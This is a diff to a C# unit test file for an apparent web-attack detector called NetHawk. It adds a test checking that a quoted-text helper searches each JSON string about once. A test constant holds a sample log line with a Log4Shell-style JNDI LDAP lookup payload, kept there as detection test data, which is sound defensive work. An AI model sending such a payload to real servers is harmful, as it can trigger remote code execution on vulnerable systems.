@@ -1,3 +1,4 @@
+using NetHawk.Core.Detectors;
 using NetHawk.Core.Detectors.BruteForce;
 using NetHawk.Core.Detectors.Exploit;
 using NetHawk.Core.Detectors.WebAttack;
@@ -8,6 +9,20 @@ namespace NetHawk.Tests.Detectors;
 public class QuotedTextTests
 {
     private const string Log = "{\"create\": {}}\n{\"message\": \"203.0.113.9 - - \\\"GET /?x=${jndi:ldap://192.0.2.4/a} HTTP/1.1\\\" 404 196\"}";
+
+    /// <summary>A body of hundreds of strings does not buy hundreds of searches several times over.</summary>
+    [Fact]
+    public void Each_string_of_json_is_searched_once_and_only_those_with_something_in_them_again()
+    {
+        string[] strings = [.. Enumerable.Range(0, 200).Select(i => i == 150 ? "x EVIL" : "abc"), "a", "b"];
+        int searches = 0;
+        QuotedText.IsQuoted("[\"" + string.Join("\",\"", strings) + "\"]", text =>
+        {
+            searches++;
+            return text.Contains("evil", StringComparison.Ordinal);
+        });
+        Assert.InRange(searches, 200, 210);
+    }
 
     private static bool IsHit(string body) => WebPatterns.InBody(body, out bool quoted) != WebPattern.None && !quoted;
 
